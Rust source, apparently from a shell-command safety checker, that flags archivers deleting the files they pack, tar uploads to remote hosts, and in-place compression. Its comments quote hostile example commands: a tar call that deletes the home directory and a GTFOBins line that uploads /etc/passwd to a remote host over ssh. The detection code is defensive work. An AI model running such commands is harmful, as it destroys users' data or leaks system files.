//! Archivers that delete what they pack (tar's `--remove-files`, zip's
//! `-m`): judged as a recursive removal of their operands; GNU tar's
//! remote archives (`-f HOST:FILE`); and what an archiver only reads when
//! it packs.

use super::*;

impl Walker<'_> {
    /// `tar -cf /dev/null --remove-files ~`, `zip -rm x.zip DIR`: the
    /// archiver deletes what it packed (tar(1) `--remove-files`, zip(1)
    /// `-m`), as `rm -r` of its operands would.
    pub(super) fn archive_removes(
        &mut self,
        name: &str,
        rest: &[Arg<'_>],
        vals: &[&str],
        text: &str,
    ) {
        if let Some(host) = remote_archive(name, vals) {
            self.find(
                Exfil,
                High,
                format!("{name} writes its archive to {host} (a remote archive)"),
                text,
            );
        }
        let removes = match name {
            "tar" | "bsdtar" | "gtar" => vals.contains(&"--remove-files"),
            "zip" => vals.iter().any(|v| {
                *v == "-m"
                    || *v == "--move"
                    || (v.starts_with('-') && !v.starts_with("--") && v.contains('m'))
            }),
            _ => false,
        };
        if !removes {
            return;
        }
        // The archive itself is not removed: tar's `-f FILE` (also last in
        // a cluster, `-cf FILE`, or in the old bundle `czf FILE`), zip's
        // first operand.
        let mut archive_next = false;
        let mut first_operand = true;
        for (i, a) in rest.iter().enumerate() {
            let v = a.v();
            let old_bundle = name != "zip"
                && i == 0
                && !v.starts_with('-')
                && v.chars().all(|c| "ctxrujzJvfpPaOkmSWZ".contains(c));
            if v.starts_with('-') || old_bundle {
                archive_next |= v == "--file"
                    || (!v.starts_with("--") && v.contains('f'))
                    || (old_bundle && v.contains('f'));
                continue;
            }
            if std::mem::take(&mut archive_next) || (name == "zip" && first_operand) {
                first_operand = false;
                continue;
            }
            first_operand = false;
            for abs in self.arg_paths(a) {
                self.removal_target(&abs, &abs, false, true, text);
            }
        }
    }
}

/// Whether word `i` of an archiver's call is only read: tar creating an
/// archive (`-c`, `--create`, the old bundle `czf`) reads every operand
/// but the archive file (`-f FILE`, `-cf FILE`, `--file=FILE`): `tar -czf
/// logs.tgz /var/log` was denied as a change of the logs (l101, session
/// 29). Extracting, appending and updating write.
pub(super) fn packed_only(name: &str, vals: &[&str], i: usize) -> bool {
    if !matches!(name, "tar" | "bsdtar" | "gtar") {
        return false;
    }
    let bundle = tar_bundle(vals);
    let creates = vals
        .iter()
        .any(|v| *v == "--create" || short_cluster_has(v, 'c'))
        || bundle.is_some_and(|b| b.contains('c'));
    let writes = vals.iter().any(|v| {
        matches!(
            *v,
            "--extract" | "--get" | "--append" | "--update" | "--catenate" | "--remove-files"
        ) || ['x', 'r', 'u', 'A']
            .iter()
            .any(|c| short_cluster_has(v, *c))
    }) || bundle.is_some_and(|b| b.contains(['x', 'r', 'u', 'A']));
    if !creates || writes {
        return false;
    }
    let Some(v) = vals.get(i) else {
        return false;
    };
    !v.starts_with("--file=")
        && !i
            .checked_sub(1)
            .is_some_and(|p| names_archive_next(vals, p))
}

/// The host of GNU tar's archive when it lies on another machine and tar
/// writes it: `-f [USER@]HOST:FILE` (tar(1) "--file": a colon before any
/// slash names a remote archive, reached through rsh or `--rsh-command`;
/// `--force-local` turns that off), when creating, appending or updating
/// (GTFOBins tar, file upload: `tar cvf user@host:/tmp/f.tar /etc/passwd
/// --rsh-command=/bin/ssh`).
fn remote_archive<'v>(name: &str, vals: &[&'v str]) -> Option<&'v str> {
    if !matches!(name, "tar" | "gtar") || vals.contains(&"--force-local") {
        return None;
    }
    let writes = vals.iter().any(|v| {
        matches!(*v, "--create" | "--append" | "--update")
            || ['c', 'r', 'u'].iter().any(|c| short_cluster_has(v, *c))
    }) || tar_bundle(vals).is_some_and(|b| b.contains(['c', 'r', 'u']));
    if !writes {
        return None;
    }
    let file = vals.iter().enumerate().find_map(|(i, v)| {
        v.strip_prefix("--file=").or_else(|| {
            names_archive_next(vals, i)
                .then(|| vals.get(i + 1).copied())
                .flatten()
        })
    })?;
    let (host, path) = file.split_once(':')?;
    (!host.is_empty() && !host.contains('/') && !path.is_empty()).then_some(host)
}

/// tar's old-style first word, a bundle of letters without a dash (`czf`,
/// `cvf`, `xf`).
fn tar_bundle<'v>(vals: &[&'v str]) -> Option<&'v str> {
    vals.first()
        .copied()
        .filter(|v| !v.starts_with('-') && v.chars().all(|c| "ctvzjJfpPaOrux".contains(c)))
}

/// Whether word `p` of a tar call makes the next word the archive file:
/// `--file`, a cluster of short flags ending in `f` (`-cf FILE`; in `-fv`
/// getopt hands `v` to `-f`), or the old bundle first with an `f`
/// anywhere (`cfv FILE`: a bundle's letters take their values in order).
/// One reading for `packed_only` and `remote_archive` (the review of
/// session 29 found `tar cfv ~/.bashrc src` read as packing the file).
fn names_archive_next(vals: &[&str], p: usize) -> bool {
    vals.get(p).is_some_and(|v| {
        *v == "--file"
            || v.starts_with('-') && !v.starts_with("--") && v.ends_with('f')
            || p == 0 && !v.starts_with('-') && v.contains('f')
    })
}

/// A compressor replaces the files it is given with their compressed
/// copies (or writes those beside them) unless it writes to standard
/// output, lists or tests: `xz /var/log/syslog` rewrites the system log
/// (session 30, lcmde's `find /var/log ... | xargs xz`).
pub(super) fn compresses_in_place(name: &str, vals: &[&str]) -> bool {
    const COMPRESSORS: &[&str] = &[
        "gzip", "bzip2", "xz", "lzma", "compress", "pigz", "pbzip2", "zstd", "lz4", "lzip", "lzop",
    ];
    COMPRESSORS.contains(&name)
        && !vals.iter().any(|v| {
            matches!(*v, "--stdout" | "--to-stdout" | "--list" | "--test")
                || v.starts_with('-') && !v.starts_with("--") && v.contains(['c', 'l', 't'])
        })
}
